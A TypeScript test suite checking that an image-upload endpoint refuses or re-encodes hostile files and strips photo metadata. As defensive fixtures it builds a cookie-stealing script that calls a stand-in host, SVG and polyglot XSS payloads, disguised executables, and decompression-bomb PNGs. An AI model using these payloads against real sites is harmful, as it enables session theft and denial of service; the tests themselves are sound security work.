import { randomBytes } from 'node:crypto'
import { Readable } from 'node:stream'
import { createDeflate } from 'node:zlib'
import { finishUpload } from '@cabstand/contract/http/platform/files'
import { imageLimits } from '@cabstand/domain/upload/image-limits'
import sharp from 'sharp'
import { describe, expect, test } from 'vitest'
import { asOwner } from '../../support/as-owner.ts'
import { MemoryStorage } from '../../support/memory-storage.ts'
import { testServer } from '../../support/test-server.ts'
import { mobiles } from '../../support/trip.ts'
import { addPicture, picture, readPicture, sendPicture } from './pictures.ts'

const storage = new MemoryStorage()
const server = await testServer({ storage })
const rider = await server.signIn(mobiles.rider)

const text = (content: string) => Uint8Array.from(Buffer.from(content))
const joined = (...parts: Uint8Array[]) => Uint8Array.from(Buffer.concat(parts))

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  // libpng does not check the sums of ancillary chunks that it skips; those of others are right.
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(Buffer.concat([Buffer.from(type), data])))
  return Buffer.concat([length, Buffer.from(type), data, sum])
}

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff
  for (const byte of bytes) {
    crc ^= byte
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0)
  }
  return (crc ^ 0xffffffff) >>> 0
}

/** A black picture: one bit for each pixel, so that 50,000 by 50,000 pixels are a file of 300 KB. */
async function blackPng(width: number, height: number): Promise<Uint8Array<ArrayBuffer>> {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([1, 0, 0, 0, 0], 8)
  const row = Buffer.alloc(Math.ceil(width / 8) + 1)
  const rows = Readable.from(Array.from({ length: height }, () => row)).pipe(createDeflate())
  return joined(
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    chunk('IDAT', Buffer.concat(await rows.toArray())),
    chunk('IEND', Buffer.alloc(0)),
  )
}

/** A PNG that says it has these pixels, with almost no data. */
async function lyingPng(width: number, height: number): Promise<Uint8Array<ArrayBuffer>> {
  const small = Buffer.from(await blackPng(8, 8))
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 2, 0, 0, 0], 8)
  return joined(small.subarray(0, 8), chunk('IHDR', header), small.subarray(33))
}

const script = '<script>fetch("https://evil.example/?"+document.cookie)</script>'
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`
const jpeg = await picture(200, 150, 'jpeg')
const huge = await blackPng(50_000, 50_000)
const oneRowMore = await blackPng(10_000, imageLimits.pixels / 10_000 + 1)
const lying = await lyingPng(50_000, 50_000)
const png = await picture(200, 150, 'png')
const webp = await picture(200, 150, 'webp')

describe('refused with its code, and nothing of it is kept', () => {
  test.each([
    ['an SVG with a script', text(svg), 'unsupported_media_type'],
    ['an SVG behind an XML declaration', text(`<?xml version="1.0"?>${svg}`), 'unsupported_media_type'],
    ['a page', text(`<!doctype html>${script}`), 'unsupported_media_type'],
    ['a PDF', text('%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>'), 'unsupported_media_type'],
    ['a GIF', text('GIF89a/*\x01\x00\x01\x00*/=1;alert(1)'), 'unsupported_media_type'],
    ['a program', joined(Buffer.from('7f454c46', 'hex'), randomBytes(200)), 'unsupported_media_type'],
    ['a ZIP', joined(Buffer.from('504b0304', 'hex'), randomBytes(200)), 'unsupported_media_type'],
    ['one byte', text('x'), 'unsupported_media_type'],
    [
      'a page behind the first bytes of a JPEG',
      joined(Buffer.from('ffd8ffe0', 'hex'), text(script)),
      'file_damaged',
    ],
    [
      'an SVG behind the first bytes of a PNG',
      joined(Buffer.from('89504e470d0a1a0a', 'hex'), text(svg)),
      'file_damaged',
    ],
    ['a truncated JPEG', jpeg.slice(0, jpeg.length / 2), 'file_damaged'],
    ['a truncated PNG', png.slice(0, png.length / 2), 'file_damaged'],
    ['a truncated WebP', webp.slice(0, webp.length / 2), 'file_damaged'],
    ['50,000 by 50,000 pixels', huge, 'too_many_pixels'],
    ['a header that says 50,000 by 50,000 pixels', lying, 'too_many_pixels'],
    ['one row too many', oneRowMore, 'too_many_pixels'],
  ])('%s', async (_, bytes, code) => {
    const id = await sendPicture(rider, 'profileImage', bytes)
    expect(await rider.refusal(finishUpload, { params: { id } })).toBe(code)
    expect(await asOwner(server.database, 'select from uploads union all select from files')).toEqual([])
    await server.clock.settle()
    expect([...storage.objects.keys()]).toEqual([])
  })

  test('and the server still decodes pictures afterwards', async () => {
    expect(await addPicture(rider, 'profileImage')).toMatch(/^\/api\/files\//)
  })
})

describe('encoded again, so that nothing but pixels is left', () => {
  const read = async (bytes: Uint8Array<ArrayBuffer>, purpose = 'profileImage') =>
    (await readPicture(rider, await addPicture(rider, purpose, bytes))).bytes

  test.each([
    ['a JPEG with a ZIP behind it', joined(jpeg, Buffer.from('504b0304', 'hex'), text(script))],
    ['a PNG with a page in a text', withText(Buffer.from(png), script)],
    ['a WebP with a page behind it', joined(webp, text(script))],
  ])('%s', async (_, bytes) => {
    expect(Buffer.from(bytes).includes('evil.example')).toBe(true)
    const kept = await read(bytes)
    expect(kept.includes('evil.example')).toBe(false)
    expect((await sharp(kept).metadata()).format).toBe('webp')
  })

  test('position, camera and time are gone, and the picture is upright', async () => {
    const exif = {
      IFD0: { Make: 'Spyphone', Copyright: 'Zubaidah Quennell' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '38/1 42/1 0/1' },
    }
    const photo = sharp({ create: { width: 300, height: 200, channels: 3, background: '#246' } })
    const bytes = Uint8Array.from(
      await photo.withExif(exif).withMetadata({ orientation: 6 }).jpeg().toBuffer(),
    )
    expect(await sharp(bytes).metadata()).toMatchObject({ width: 300, height: 200, orientation: 6 })
    expect(Buffer.from(bytes).includes('Spyphone')).toBe(true)
    const kept = await read(bytes, 'licenseImage')
    const { width, height, exif: left, xmp, icc, orientation } = await sharp(kept).metadata()
    expect({ width, height, left, xmp, icc, orientation }).toEqual({ width: 200, height: 300 })
    expect(kept.includes('Spyphone')).toBe(false)
  })

  test('a profile picture fills its square, a licence keeps its shape and is never enlarged', async () => {
    const sizeOf = async (bytes: Buffer) => {
      const { width, height } = await sharp(bytes).metadata()
      return [width, height]
    }
    expect(await sizeOf(await read(await picture(3000, 1000)))).toEqual([512, 512])
    expect(await sizeOf(await read(await picture(3000, 1000), 'licenseImage'))).toEqual([2000, 667])
    expect(await sizeOf(await read(await picture(300, 100), 'licenseImage'))).toEqual([300, 100])
  })
})

/** A PNG with a text chunk behind its header. */
function withText(png: Buffer, content: string): Uint8Array<ArrayBuffer> {
  return joined(png.subarray(0, 33), chunk('tEXt', Buffer.from(`Comment\0${content}`)), png.subarray(33))
}
